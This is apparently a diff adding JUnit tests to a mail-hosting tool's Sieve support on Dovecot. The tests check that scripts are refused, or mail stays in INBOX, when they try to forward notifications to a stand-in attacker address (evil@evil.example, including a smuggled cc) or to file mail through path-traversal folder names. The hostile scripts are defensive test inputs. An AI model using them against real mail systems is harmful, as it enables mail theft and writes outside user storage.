@@ -46,12 +46,14 @@ class SieveOnDovecotTest {
     Hostctl alice;
     Hostctl bob;
     Path files;
+    Path tmp;
     final ByteArrayOutputStream log = new ByteArrayOutputStream();
     PrintStream originalErr;
 
     @BeforeAll
     void start(@TempDir Path tmp) throws IOException {
         DovecotFixture.assumeAvailable();
+        this.tmp = tmp;
         originalErr = System.err;
         System.setErr(new PrintStream(new MailboxesOnDovecotTest.TeeStream(originalErr, log), true,
                 StandardCharsets.UTF_8));
@@ -116,6 +118,18 @@ class SieveOnDovecotTest {
         }
         if (mxB != null) {
             mxB.close();
+        }
+    }
+
+    private static String message(String subject, String id) {
+        return "From: sender@other.example\r\nTo: ann@a.example\r\nSubject: " + subject + "\r\nMessage-ID: <" + id
+                + "@other.example>\r\n\r\ntext\r\n";
+    }
+
+    private boolean folderExists(DovecotFixture d, String user, String folder) throws IOException {
+        try (ImapClient imap = d.imap()) {
+            assertThat(imap.login(user, PASSWORD).ok()).isTrue();
+            return imap.command("STATUS \"" + folder + "\" (MESSAGES)").ok();
         }
     }
 
@@ -241,6 +255,143 @@ class SieveOnDovecotTest {
             Thread.sleep(200);
         }
         throw new AssertionError("no vacation reply in " + mxA.outbox() + "; dovecot log:\n" + mxA.logTail());
+    }
+
+    @Test
+    @Order(7)
+    void notify_to_a_target_built_from_variables_is_refused_with_its_line_and_nothing_is_stored() throws Exception {
+        List<String> scripts = List.of(
+                "require [\"enotify\",\"variables\"];\nset \"m\" \"mailto:evil@evil.example\";\n"
+                        + "notify :message \"${1}\" \"${m}\";\n",
+                "require [\"enotify\",\"variables\"];\nset \"m\" \"mailto\";\n"
+                        + "notify :message \"x\" \"${m}:evil@evil.example\";\n",
+                "require [\"enotify\",\"variables\"];\nset :lower \"m\" \"MAILTO:EVIL@EVIL.EXAMPLE\";\n"
+                        + "notify \"${m}\";\n",
+                "require [\"enotify\"];\n\nnotify :from \"ann@a.example\" \"mailto:ann@a.example?cc=evil@evil.example\";\n",
+                "require [\"vacation\"];\n\nvacation :addresses [\"evil@evil.example\"] \"away\";\n");
+        for (String script : scripts) {
+            Path f = files.resolve("evil.sieve");
+            Files.writeString(f, script);
+
+            HostctlRun put = alice.run("sieve", "put", "ann@a.example", "evil", f.toString(), "--activate");
+
+            assertThat(put.exitCode()).as(script + put).isEqualTo(5);
+            assertThat(put.err()).as(script).startsWith("hostctl: line 3: ").containsAnyOf("evil", "variables")
+                    .endsWith("\n").hasLineCount(1);
+            assertThat(put.out()).isEmpty();
+            assertThat(alice.run("sieve", "check", "ann@a.example", f.toString()).exitCode()).isEqualTo(5);
+        }
+        HostctlRun list = alice.run("sieve", "list", "ann@a.example", "-o", "json");
+        assertThat(list.out()).doesNotContain("\"evil\"").contains("\"name\" : \"zip\"");
+
+        deliver(mxA, "ann@a.example", message("notify me", "notify-1"));
+        Thread.sleep(500);
+        try (var sent = Files.list(mxA.outbox())) {
+            for (Path p : sent.toList()) {
+                assertThat(Files.readString(p)).doesNotContain("evil.example");
+            }
+        }
+    }
+
+    @Test
+    @Order(8)
+    void fileinto_never_leaves_the_maildir_refused_when_literal_and_kept_in_inbox_by_dovecot_when_from_variables()
+            throws Exception {
+        for (String folder : List.of("../escape-lit", ".escape-lit", "Lists..escape-lit", "a/../../escape-lit",
+                "${hex:2e 2e}/escape-lit")) {
+            Path f = files.resolve("dots.sieve");
+            Files.writeString(f, "require [\"fileinto\",\"mailbox\",\"encoded-character\"];\n"
+                    + "fileinto :create \"" + folder + "\";\n");
+            HostctlRun put = alice.run("sieve", "put", "ann@a.example", "dots", f.toString());
+            assertThat(put.exitCode()).as(folder + put).isEqualTo(5);
+            assertThat(put.err()).as(folder).startsWith("hostctl: line 2: fileinto folder").hasLineCount(1);
+        }
+        assertThat(alice.run("sieve", "list", "ann@a.example").out()).doesNotContain("dots");
+
+        Path byVariable = files.resolve("by-subject.sieve");
+        Files.writeString(byVariable, "require [\"fileinto\",\"mailbox\",\"variables\"];\n"
+                + "if header :matches \"subject\" \"*\" { fileinto :create \"${1}\"; }\n");
+        HostctlRun put = alice.run("sieve", "put", "ann@a.example", "by-subject", byVariable.toString(), "--activate");
+        assertThat(put.exitCode()).as(put.toString()).isZero();
+        long inbox = count(mxA, "ann@a.example", "INBOX");
+        List<String> subjects = List.of("../../../escape-var", "../../../../../../" + tmp.resolve("escape-abs"),
+                tmp.resolve("escape-abs2").toString(), "~/escape-home", ".escape-dot", "Lists..escape-var",
+                "Lists/../../escape-var", "&AC4-&AC4-/escape-utf7");
+        int i = 0;
+        for (String subject : subjects) {
+            deliver(mxA, "ann@a.example", message(subject, "escape-" + i++));
+        }
+        deliver(mxA, "ann@a.example", message("Lists.escape-fine", "escape-fine"));
+
+        assertThat(count(mxA, "ann@a.example", "INBOX")).as("Dovecot refused every name; the mail stayed in INBOX")
+                .isEqualTo(inbox + subjects.size());
+        assertThat(count(mxA, "ann@a.example", "Lists.escape-fine")).isEqualTo(1);
+        Path maildir = mxA.vmailRoot().resolve("a.example/ann/Maildir");
+        List<Path> made = new java.util.ArrayList<>();
+        for (Path root : List.of(mxA.dir(), tmp)) {
+            try (var walk = Files.walk(root)) {
+                walk.filter(p -> p.getFileName().toString().contains("escape")).forEach(made::add);
+            }
+        }
+        assertThat(made).as("only the fine folder, inside the maildir")
+                .allMatch(p -> p.startsWith(maildir.resolve(".Lists.escape-fine")) || p.startsWith(files));
+        assertThat(made).contains(maildir.resolve(".Lists.escape-fine"));
+
+        HostctlRun zip = alice.run("sieve", "activate", "ann@a.example", "zip");
+        assertThat(zip.exitCode()).as(zip.toString()).isZero();
+    }
+
+    @Test
+    @Order(8)
+    void fileinto_a_missing_folder_without_create_warns_and_really_keeps_the_mail_in_inbox_until_the_folder_exists()
+            throws Exception {
+        Path script = files.resolve("projects.sieve");
+        Files.writeString(script, "require \"fileinto\";\nif header :contains \"subject\" \"project\" {\n"
+                + "  fileinto \"Projects\";\n}\n");
+        Path eml = files.resolve("project.eml");
+        Files.writeString(eml, message("project plan", "project-0"));
+        String warning = "warning: line 3: warning: fileinto folder 'Projects' does not exist in ann@a.example";
+
+        HostctlRun check = alice.run("sieve", "check", "ann@a.example", script.toString());
+        assertThat(check.exitCode()).as(check.toString()).isZero();
+        assertThat(check.err()).contains(warning).contains(":create");
+        HostctlRun checkJson = alice.run("sieve", "check", "ann@a.example", script.toString(), "-o", "json");
+        assertThat(checkJson.out()).contains("fileinto folder 'Projects' does not exist");
+        HostctlRun test = alice.run("sieve", "test", "ann@a.example", script.toString(), "--message", eml.toString());
+        assertThat(test.exitCode()).as(test.toString()).isZero();
+        assertThat(test.out()).contains("store message in folder: Projects").doesNotContain("warning");
+        assertThat(test.err()).contains(warning);
+        HostctlRun testJson = alice.run("sieve", "test", "ann@a.example", script.toString(), "--message",
+                eml.toString(), "-o", "json");
+        assertThat(testJson.out()).contains("\"warnings\" : [ \"line 3: warning: fileinto folder 'Projects'");
+        HostctlRun put = alice.run("sieve", "put", "ann@a.example", "projects", script.toString(), "--activate");
+        assertThat(put.exitCode()).as(put.toString()).isZero();
+        assertThat(put.err()).contains(warning);
+
+        long inbox = count(mxA, "ann@a.example", "INBOX");
+        deliver(mxA, "ann@a.example", message("project plan", "project-1"));
+        assertThat(count(mxA, "ann@a.example", "INBOX")).as("the claim: delivery keeps it in INBOX")
+                .isEqualTo(inbox + 1);
+        assertThat(folderExists(mxA, "ann@a.example", "Projects")).isFalse();
+
+        try (ImapClient imap = mxA.imap()) {
+            assertThat(imap.login("ann@a.example", PASSWORD).ok()).isTrue();
+            assertThat(imap.command("CREATE Projects").ok()).isTrue();
+        }
+        HostctlRun quiet = alice.run("sieve", "check", "ann@a.example", script.toString());
+        assertThat(quiet.exitCode()).isZero();
+        assertThat(quiet.err()).doesNotContain("warning");
+        assertThat(alice.run("sieve", "test", "ann@a.example", script.toString(), "--message", eml.toString()).err())
+                .doesNotContain("warning");
+        deliver(mxA, "ann@a.example", message("project plan", "project-2"));
+        assertThat(count(mxA, "ann@a.example", "Projects")).isEqualTo(1);
+
+        Files.writeString(script, "require [\"fileinto\",\"mailbox\"];\nfileinto :create \"Reports\";\n");
+        HostctlRun created = alice.run("sieve", "check", "ann@a.example", script.toString());
+        assertThat(created.exitCode()).isZero();
+        assertThat(created.err()).doesNotContain("warning");
+
+        assertThat(alice.run("sieve", "activate", "ann@a.example", "zip").exitCode()).isZero();
     }
 
     @Test
